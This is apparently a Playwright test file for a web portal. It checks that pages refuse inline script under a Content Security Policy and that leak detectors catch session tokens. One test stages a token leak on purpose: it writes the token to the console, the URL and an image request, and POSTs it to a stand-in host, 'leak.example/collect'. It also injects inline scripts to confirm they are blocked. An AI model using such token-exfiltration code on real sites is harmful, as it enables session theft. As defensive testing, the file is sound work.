import { expect, type Page, test } from '@playwright/test';
import { recordFigures } from '../proof/support/figures';
import { scriptPolicyProblems } from './support/proof-csp';
import { findLeaks } from './support/proof-leaks';
import { TourRecorder } from './support/proof-recorder';
import { signInAs } from './support/session';

/*
 * Issue #16, CSP: the pages run under a policy that refuses inline script, the policy is really
 * enforced by the browser, and the tour's detectors (CSP violations, token leaks) do catch what they
 * look for, so the token-safety tour's zeros mean something.
 */

const pages = ['/auth/sign-in', '/user/dashboard', '/checkout', '/demo/', '/dev/outbox'];

async function open(page: Page, path: string): Promise<string> {
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(200);
  await page.waitForLoadState('networkidle');
  return response?.headers()['content-security-policy'] ?? '';
}

test('the portal, demo, checkout and outbox pages refuse inline script and report no violation', async ({
  page,
  context,
  baseURL,
}) => {
  const recorder = await TourRecorder.attach(context, new URL(baseURL ?? '').origin);
  await signInAs(page, 'customer');
  const problems: string[] = [];
  for (const path of pages) {
    const policy = await open(page, path);
    for (const problem of scriptPolicyProblems(policy)) problems.push(`${path}: ${problem}`);
    // Every script of the page is a file: the served HTML holds no inline script to allow.
    const inline = await page.locator('script:not([src])').count();
    if (inline > 0) problems.push(`${path}: ${inline} inline script(s)`);
  }
  const record = await recorder.settle();
  recordFigures('csp', {
    pages_checked: pages.length,
    policy_problems: problems.length,
    csp_violations: record.violations.length,
  });
  expect(problems).toEqual([]);
  expect(record.violations).toEqual([]);
});

test('an injected inline script is blocked, also inside an element’s shadow root, and the violation is seen', async ({
  page,
  context,
  baseURL,
}) => {
  const recorder = await TourRecorder.attach(context, new URL(baseURL ?? '').origin);
  await open(page, '/demo/');
  await expect(page.locator('vendor-checkout [part="product"]').first()).toBeVisible();
  const ran = await page.evaluate(async () => {
    const marker = window as unknown as { injectedRan?: string[] };
    const inject = (parent: Node, where: string) => {
      const script = document.createElement('script');
      script.textContent = `(window.injectedRan = window.injectedRan || []).push('${where}')`;
      parent.appendChild(script);
    };
    inject(document.body, 'document');
    const host = document.querySelector('vendor-checkout');
    if (host?.shadowRoot) inject(host.shadowRoot, 'shadow root');
    await new Promise((resolve) => setTimeout(resolve, 200));
    return marker.injectedRan ?? [];
  });
  expect(ran).toEqual([]);
  await expect
    .poll(() => recorder.record.violations.map((violation) => violation.directive))
    .toEqual(['script-src-elem', 'script-src-elem']);
  expect(recorder.record.violations.every((violation) => violation.blockedURI === 'inline')).toBe(true);
});

test('the leak rules catch a token in the console, the address bar, a Referer and a request to another origin', async ({
  page,
  context,
  baseURL,
}) => {
  const ownOrigin = new URL(baseURL ?? '').origin;
  const recorder = await TourRecorder.attach(context, ownOrigin);
  await context.route('https://www.gravatar.com/**', (route) => route.fulfill({ body: '' }));
  const token = await signInAs(page, 'customer');
  await open(page, '/user/dashboard');
  // Signed in through the API, not the page: the stored token is how the recorder learns it.
  await recorder.snapshotStorage(page);
  const fetchBlocked = await page.evaluate(async (value) => {
    console.log(`token is ${value}`);
    history.replaceState(null, '', `/user/dashboard?t=${value}`);
    // Images may come from the avatar service (img-src); a script may not call other hosts (connect-src).
    new Image().src = `https://www.gravatar.com/avatar/0?d=${value}`;
    return fetch('https://leak.example/collect', { method: 'POST', body: value }).then(
      () => false,
      () => true,
    );
  }, token);
  expect(fetchBlocked, 'connect-src refuses a call to an unlisted host').toBe(true);
  await open(page, `/user/profile?t=${token}`);
  const record = await recorder.settle();
  const places = new Set(findLeaks(record, ownOrigin).map((leak) => leak.place));
  expect([...places].sort()).toEqual(
    ['address bar', 'console', 'Referer', 'request URL', 'request to another origin'].sort(),
  );
  expect(record.violations.map((violation) => violation.directive)).toContain('connect-src');
});
